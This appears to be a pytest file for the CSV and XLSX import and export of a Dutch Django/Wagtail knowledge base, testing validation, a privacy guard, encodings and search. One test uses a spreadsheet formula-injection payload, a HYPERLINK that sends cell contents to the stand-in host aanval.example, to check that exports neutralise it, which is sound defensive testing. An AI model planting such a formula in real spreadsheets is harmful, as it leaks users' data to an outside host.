import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.db import transaction
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from wagtail.models import Revision

from kennisbank import services
from kennisbank.demo import demo_laden
from kennisbank.models import ImportTaak, InterventiePage
from kennisbank.services import KOLOMMEN, interventies_importeren


def rij(nummer, **anders):
    basis = {
        "titel": f"Interventie {nummer}",
        "slug": f"import-{nummer}",
        "samenvatting": f"Wat de consulent doet in stap {nummer}.",
        "fases": "Zoekperiode (4 weken);plangesprek",
        "laag": "toolbox",
        "onderdeel": "doen",
        "doelgroepen": "LVB;jongeren",
        "treden": "trede-2",
        "klanttypen": "Toetser",
        "werkzame_elementen": "netwerk",
        "basismethodiek": "Motiverende gespreksvoering",
        "herkomst": "consulenten;Literatuur",
        "bewijsniveau": "goed beschreven",
        "status": "pilot",
        "aanbieder": "Welzijnsorganisatie",
        "duur": "12 weken",
        "kosten": "gratis",
        "bronnen": "Movisie (2018)\nLeernetwerk (2020)",
        "tags": "netwerk;MI",
    }
    basis.update(anders)
    return basis


def als_csv(rijen, kolommen=KOLOMMEN):
    uit = io.StringIO()
    schrijver = csv.DictWriter(uit, fieldnames=kolommen, extrasaction="ignore")
    schrijver.writeheader()
    schrijver.writerows(rijen)
    return uit.getvalue().encode("utf-8")


def importeer(inhoud, naam="interventies.csv", **kwargs):
    return interventies_importeren(inhoud=inhoud, bestandsnaam=naam, **kwargs)


def test_200_rows_create_200_interventies_and_a_second_import_changes_nothing(schema):
    bestand = als_csv([rij(n) for n in range(200)])
    resultaat = importeer(bestand)
    assert resultaat.fouten == [] and len(resultaat.nieuw) == 200
    assert InterventiePage.objects.live().child_of(schema).count() == 200
    eerste = InterventiePage.objects.get(slug="import-7")
    assert [f.slug for f in eerste.fases.all()] == ["zoekperiode", "plangesprek"]
    assert {d.slug for d in eerste.doelgroepen.all()} == {"lvb", "jongeren"}
    assert eerste.status == "pilot" and eerste.bewijsniveau == "goed_beschreven"
    assert sorted(t.name for t in eerste.tags.all()) == ["MI", "netwerk"]

    revisies = Revision.objects.count()
    opnieuw = importeer(bestand)
    assert opnieuw.fouten == [] and len(opnieuw.ongewijzigd) == 200
    assert opnieuw.nieuw == [] and opnieuw.gewijzigd == []
    assert Revision.objects.count() == revisies
    assert InterventiePage.objects.count() == 200


def test_three_bad_rows_are_reported_and_nothing_is_written(schema):
    rijen = [rij(n) for n in range(10)]
    rijen[1]["doelgroepen"] = "LVB;kabouters"  # file row 3
    rijen[3]["titel"] = ""  # file row 5
    rijen[6]["laag"] = "bovenste plank"  # file row 8
    resultaat = importeer(als_csv(rijen))
    assert [(f.rij, f.kolom) for f in resultaat.fouten] == [
        (3, "doelgroepen"),
        (5, "titel"),
        (8, "laag"),
    ]
    assert "“kabouters” is onbekend in doelgroepen" in resultaat.fouten[0].melding
    assert "Verplicht" in resultaat.fouten[1].melding
    assert "geen geldige waarde" in resultaat.fouten[2].melding
    assert not InterventiePage.objects.exists()


def test_update_by_slug_changes_the_existing_page_without_duplicating(schema):
    importeer(als_csv([rij(1)]))
    resultaat = importeer(als_csv([rij(1, titel="Nieuwe titel", status="beschikbaar")]))
    assert resultaat.gewijzigd == ["import-1"]
    pagina = InterventiePage.objects.get()
    assert pagina.title == "Nieuwe titel" and pagina.status == "beschikbaar" and pagina.live


def test_file_level_errors_are_reported_in_dutch(schema):
    zonder_fases = als_csv([rij(1)], kolommen=[k for k in KOLOMMEN if k != "fases"])
    assert [(f.rij, f.kolom) for f in importeer(zonder_fases).fouten] == [(1, "fases")]
    assert "verplicht" in importeer(zonder_fases).fouten[0].melding
    assert "csv" in importeer(b"x", naam="lijst.pdf").fouten[0].melding
    dubbel = importeer(als_csv([rij(1), rij(2, slug="import-1")]))
    assert [(f.rij, f.kolom) for f in dubbel.fouten] == [(3, "slug")]
    assert not InterventiePage.objects.exists()


def test_xlsx_import_and_dry_run(schema):
    werkboek = Workbook()
    blad = werkboek.active
    blad.append(KOLOMMEN)
    blad.append([rij(1)[k] for k in KOLOMMEN])
    uit = io.BytesIO()
    werkboek.save(uit)
    proef = importeer(uit.getvalue(), naam="lijst.xlsx", proef=True)
    assert proef.fouten == [] and proef.nieuw == ["import-1"]
    assert not InterventiePage.objects.exists()
    assert importeer(uit.getvalue(), naam="lijst.xlsx").nieuw == ["import-1"]
    assert InterventiePage.objects.get().duur == "12 weken"


def test_management_command_with_dry_run_and_errors(schema, tmp_path, capsys):
    goed = tmp_path / "goed.csv"
    goed.write_bytes(als_csv([rij(1), rij(2)]))
    call_command("interventies_importeren", str(goed), "--dry-run")
    assert "Proefimport (niets opgeslagen): 2 nieuw" in capsys.readouterr().out
    assert not InterventiePage.objects.exists()
    call_command("interventies_importeren", str(goed))
    assert InterventiePage.objects.count() == 2
    fout = tmp_path / "fout.csv"
    fout.write_bytes(als_csv([rij(3, fases="")]))
    with pytest.raises(CommandError, match="niets opgeslagen"):
        call_command("interventies_importeren", str(fout))
    assert "rij 2, kolom fases: Verplicht" in capsys.readouterr().err


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_export_then_import_of_the_demo_is_a_no_op(client_als, schema, formaat, capsys):
    demo_laden(stdout=io.StringIO())
    aantal = InterventiePage.objects.count()
    assert aantal >= 60
    revisies = Revision.objects.count()
    response = client_als("demo-kennisbeheerder").get(f"/interventieschema/export.{formaat}")
    assert response.status_code == 200
    resultaat = importeer(response.content, naam=f"export.{formaat}")
    assert resultaat.fouten == []
    assert len(resultaat.ongewijzigd) == aantal and not resultaat.gewijzigd
    assert Revision.objects.count() == revisies


def test_export_follows_the_filters_and_uses_the_import_columns(client_als, schema):
    importeer(als_csv([rij(1), rij(2, doelgroepen="statushouders", status="beschikbaar")]))
    client = client_als("demo-consulent")
    response = client.get("/interventieschema/export.xlsx?doelgroep=statushouders")
    blad = load_workbook(io.BytesIO(response.content)).active
    rijen = list(blad.iter_rows(values_only=True))
    assert list(rijen[0]) == KOLOMMEN
    assert [r[1] for r in rijen[1:]] == ["import-2"]
    tekst = client.get("/interventieschema/export.csv?status=pilot").content.decode("utf-8-sig")
    assert [r["slug"] for r in csv.DictReader(io.StringIO(tekst), delimiter=";")] == ["import-1"]


def test_upload_page_is_for_kennisbeheerders_and_reports_errors(client_als, schema):
    assert client_als("demo-consulent").get("/interventieschema/importeren/").status_code == 403
    client = client_als("demo-kennisbeheerder")
    bestand = io.BytesIO(als_csv([rij(1), rij(2, fases="Nergens")]))
    bestand.name = "interventies.csv"
    html = client.post("/interventieschema/importeren/", {"bestand": bestand}).content.decode()
    assert "1 fout gevonden: er is niets opgeslagen" in html
    assert "<td>3</td><td>fases</td><td>“Nergens” is onbekend in fases.</td>" in html
    assert not InterventiePage.objects.exists()

    bestand = io.BytesIO(als_csv([rij(1)]))
    bestand.name = "interventies.csv"
    response = client.post(
        "/interventieschema/importeren/", {"bestand": bestand, "alleen_controleren": "on"}
    )
    assert "Controle geslaagd" in response.content.decode()
    assert not InterventiePage.objects.exists()
    bestand.seek(0)
    response = client.post("/interventieschema/importeren/", {"bestand": bestand}, follow=True)
    taak = ImportTaak.objects.get()
    assert response.redirect_chain == [(f"/interventieschema/importeren/{taak.pk}/", 302)]
    html = response.content.decode()
    assert "Import opgeslagen" in html and "1 nieuw, 0 gewijzigd, 0 ongewijzigd." in html
    assert InterventiePage.objects.get().title == "Interventie 1"
    assert taak.gebruiker.username == "demo-kennisbeheerder" and bytes(taak.inhoud) == b""
    voortgang = client.get(f"/interventieschema/importeren/{taak.pk}/voortgang/").json()
    assert voortgang["loopt"] is False and voortgang["verwerkt"] == voortgang["totaal"] == 1
    consulent = client_als("demo-consulent")
    assert consulent.get(f"/interventieschema/importeren/{taak.pk}/").status_code == 403


def test_demo_loads_twice_to_the_same_state(schema):
    demo_laden(stdout=io.StringIO())
    staat = (InterventiePage.objects.count(), Revision.objects.count())
    demo_laden(stdout=io.StringIO())
    assert (InterventiePage.objects.count(), Revision.objects.count()) == staat
    fases = set(
        InterventiePage.fases.through.objects.values_list("fase__slug", flat=True).distinct()
    )
    assert {"voorafgaand", "eerste-gesprek", "zoekperiode", "plangesprek", "verloop", "nazorg"} <= (
        fases
    )
    assert InterventiePage.objects.filter(laag="toolbox").count() >= 20
    assert InterventiePage.objects.filter(status="ontbrekend").exclude(hiaat_eigenaar="").exists()
    from kennisbank.models import BeslismomentPage

    assert BeslismomentPage.objects.live().count() == 5


# --- Dutch Excel, optional columns, validation the dry run shares with the import ------------


def _excel_csv(rijen, kolommen=KOLOMMEN, codering="cp1252", scheiding=";"):
    uit = io.StringIO()
    schrijver = csv.DictWriter(
        uit, fieldnames=kolommen, extrasaction="ignore", delimiter=scheiding, lineterminator="\r\n"
    )
    schrijver.writeheader()
    schrijver.writerows(rijen)
    return uit.getvalue().encode(codering)


def test_csv_as_dutch_excel_saves_it_imports(schema):
    cp1252 = _excel_csv([rij(1, titel="Beëindiging met één gesprek")])
    assert importeer(cp1252).fouten == []
    assert InterventiePage.objects.get(slug="import-1").title == "Beëindiging met één gesprek"
    dubbele_bom = b"\xef\xbb\xbf" + _excel_csv([rij(2)], codering="utf-8-sig")
    assert importeer(dubbele_bom).nieuw == ["import-2"]
    utf16 = _excel_csv([rij(3, titel="Ärger")], codering="utf-16", scheiding="\t")
    assert importeer(utf16).nieuw == ["import-3"]


def test_optional_columns_may_be_left_out(schema):
    alleen_verplicht = ["titel", "samenvatting", "fases", "laag"]
    resultaat = importeer(als_csv([rij(1)], kolommen=alleen_verplicht))
    assert resultaat.fouten == [] and resultaat.nieuw == ["interventie-1"]
    nieuw = InterventiePage.objects.get(slug="interventie-1")
    assert (nieuw.status, nieuw.bewijsniveau, nieuw.duur) == ("beschikbaar", "niet_beoordeeld", "")

    importeer(als_csv([rij(2)]))
    bijwerken = als_csv([rij(2, titel="Nieuwe titel")], kolommen=["slug", *alleen_verplicht])
    assert importeer(bijwerken).gewijzigd == ["import-2"]
    pagina = InterventiePage.objects.get(slug="import-2")
    assert pagina.title == "Nieuwe titel"
    assert (pagina.status, pagina.duur, pagina.bewijsniveau) == (
        "pilot",
        "12 weken",
        "goed_beschreven",
    )
    assert sorted(t.name for t in pagina.tags.all()) == ["MI", "netwerk"]
    assert {d.slug for d in pagina.doelgroepen.all()} == {"lvb", "jongeren"}
    assert importeer(bijwerken).ongewijzigd == ["import-2"]


def test_a_300_character_slug_is_refused_by_the_dry_run_not_by_the_import(schema):
    bestand = als_csv([rij(1, slug="a" * 300)])
    proef = importeer(bestand, proef=True)
    assert [(f.rij, f.kolom) for f in proef.fouten] == [(2, "slug")]
    assert "255" in proef.fouten[0].melding
    assert [(f.rij, f.kolom) for f in importeer(bestand).fouten] == [(2, "slug")]
    assert not InterventiePage.objects.exists()


def test_the_privacy_guard_refuses_client_data_in_an_import(schema):
    bestand = als_csv(
        [
            rij(1),
            rij(2, samenvatting="Bel mevrouw op 06-12345678."),
            rij(3, bronnen="BSN 111222333"),
        ]
    )
    resultaat = importeer(bestand, proef=True)
    assert [(f.rij, f.kolom) for f in resultaat.fouten] == [(3, "samenvatting"), (4, "bronnen")]
    assert "06-12345678" in resultaat.fouten[0].melding
    assert "111222333" in resultaat.fouten[1].melding
    assert importeer(bestand).fouten and not InterventiePage.objects.exists()


def test_control_characters_are_taken_out_of_an_import_with_a_notice(client_als, schema):
    bestand = als_csv([rij(1, samenvatting="Eerst dit.\x0bDan dat.", titel="Titel\x00 een")])
    resultaat = importeer(bestand)
    assert resultaat.fouten == []
    assert [(m.rij, m.kolom) for m in resultaat.meldingen] == [(2, "titel"), (2, "samenvatting")]
    assert "U+000B" in resultaat.meldingen[1].melding
    pagina = InterventiePage.objects.get()
    assert (pagina.title, pagina.samenvatting) == ("Titel een", "Eerst dit.\nDan dat.")


@pytest.mark.parametrize("formaat", ["csv", "xlsx"])
def test_exports_survive_control_characters_in_old_data(client_als, schema, formaat):
    importeer(als_csv([rij(1)]))
    # PostgreSQL cannot hold NUL at all, so old data carries the other control characters.
    InterventiePage.objects.update(samenvatting="Oud\x0bgeplakt uit Word\x0c\x1b.")
    response = client_als("demo-consulent").get(f"/interventieschema/export.{formaat}")
    assert response.status_code == 200
    if formaat == "xlsx":
        waarde = load_workbook(io.BytesIO(response.content)).active["C2"].value
    else:
        waarde = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))[
            1
        ][2]
    assert waarde == "Oudgeplakt uit Word."


AANVAL = '=HYPERLINK("http://aanval.example/?"&A1,"Klik voor de handreiking")'


def test_formula_injection_is_neutralised_in_the_csv_and_xlsx_exports(client_als, schema):
    bestand = als_csv([rij(1, titel=AANVAL, aanbieder="@SUM(1+1)", duur="-2+3", kosten="+A1*2")])
    assert importeer(bestand).fouten == []
    client = client_als("demo-consulent")
    response = client.get("/interventieschema/export.csv")
    assert response.content.startswith("\ufeff".encode())
    tekst = response.content.decode("utf-8-sig")
    kop, rij_ = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    cellen = dict(zip(kop, rij_, strict=True))
    assert cellen["titel"] == "'" + AANVAL
    assert (cellen["aanbieder"], cellen["duur"], cellen["kosten"]) == (
        "'@SUM(1+1)",
        "'-2+3",
        "'+A1*2",
    )

    blad = load_workbook(io.BytesIO(client.get("/interventieschema/export.xlsx").content)).active
    assert blad["A2"].value == AANVAL and blad["A2"].data_type == "s"

    # The apostrophe is undone on import: exporting and importing again changes nothing.
    assert importeer(response.content, naam="export.csv").ongewijzigd == ["import-1"]
    assert InterventiePage.objects.get().title == AANVAL


def test_an_upload_over_the_limit_is_refused_before_it_is_read(client_als, schema):
    client = client_als("demo-kennisbeheerder")
    bestand = io.BytesIO(als_csv([rij(1)]) + b"x" * (20 * 1024 * 1024))
    bestand.name = "groot.csv"
    html = client.post("/interventieschema/importeren/", {"bestand": bestand}).content.decode()
    assert "Het bestand is 20,0 MB; de grens is 10 MB." in html
    assert not InterventiePage.objects.exists() and not ImportTaak.objects.exists()


TEKSTEN = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="abcxyz-0123456789", min_size=240, max_size=320),  # slug-like, long
    st.text(min_size=100, max_size=700),
    st.sampled_from(["=1+1", "'=1+1", "\x0b", "\x00", " ", ";", "06-12345678", "ë;ä"]),
)


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(kolom=st.sampled_from(KOLOMMEN), waarde=TEKSTEN)
@example(kolom="slug", waarde="a" * 300)  # passed the old dry run, then failed the import
@example(kolom="titel", waarde="x" * 256)
@example(kolom="bronnen", waarde="Bron\x0b\x00")
def test_generated_input_in_any_column_dry_run_and_import_agree(schema, settings, kolom, waarde):
    # Validation and the database are under test here, not the search index (which a rolled
    # back example would leave behind).
    settings.WAGTAILSEARCH_BACKENDS = {
        "default": {**settings.WAGTAILSEARCH_BACKENDS["default"], "AUTO_UPDATE": False}
    }
    bestand = als_csv([rij(1, **{kolom: waarde})])
    with transaction.atomic():
        proef = importeer(bestand, proef=True)
        echt = importeer(bestand)
        assert [(f.rij, f.kolom) for f in echt.fouten] == [(f.rij, f.kolom) for f in proef.fouten]
        assert InterventiePage.objects.count() == (0 if proef.fouten else 1)
        if not proef.fouten:
            assert echt.nieuw == proef.nieuw
            pagina = InterventiePage.objects.get()
            pagina.full_clean(exclude=["path", "depth", "url_path"])  # what was written is valid
        transaction.set_rollback(True)


def test_status_page_shows_progress_while_the_task_runs_and_errors_after_a_refusal(
    client_als, schema, demo_gebruikers
):
    client = client_als("demo-kennisbeheerder")
    taak = ImportTaak.objects.create(
        bestandsnaam="groot.csv", toestand="bezig", totaal=1000, verwerkt=250
    )
    html = client.get(f"/interventieschema/importeren/{taak.pk}/").content.decode()
    assert '<progress id="importbalk" max="1000" value="250">' in html
    assert "250 van 1000 rijen verwerkt" in html and "kennisbank/js/importvoortgang.js" in html
    stand = client.get(f"/interventieschema/importeren/{taak.pk}/voortgang/").json()
    assert stand == {
        "toestand": "bezig",
        "loopt": True,
        "verwerkt": 250,
        "totaal": 1000,
        "tekst": "250 van 1000 rijen verwerkt",
    }

    # The task validates again: what changed since the dry run refuses the file, writing nothing.
    taak = services.importtaak_aanmaken(
        inhoud=als_csv([rij(1), rij(2, doelgroepen="kabouters")]),
        bestandsnaam="lijst.csv",
        gebruiker=demo_gebruikers["demo-kennisbeheerder"],
    )
    services.importtaak_uitvoeren(taak_id=taak.pk)
    taak.refresh_from_db()
    assert taak.toestand == "geweigerd" and bytes(taak.inhoud) == b""
    assert not InterventiePage.objects.exists()
    html = client.get(f"/interventieschema/importeren/{taak.pk}/").content.decode()
    assert "1 fout gevonden: er is niets opgeslagen" in html
    assert "<td>3</td><td>doelgroepen</td><td>“kabouters” is onbekend in doelgroepen.</td>" in html
    assert "importvoortgang.js" not in html


@pytest.mark.parametrize("backend", ["whoosh", "database"])
def test_imported_and_updated_interventies_are_found_by_search(schema, settings, backend):
    from tests.search.conftest import _backend_instellen

    _backend_instellen(backend, settings)
    importeer(als_csv([rij(1, samenvatting="Werken met een krachtenkaart."), rij(2)]))
    gevonden = InterventiePage.objects.live().search("krachtenkaart")
    assert [p.slug for p in gevonden] == ["import-1"]
    importeer(als_csv([rij(1, samenvatting="Werken met een netwerkcirkel.")]))
    assert [p.slug for p in InterventiePage.objects.live().search("netwerkcirkel")] == ["import-1"]
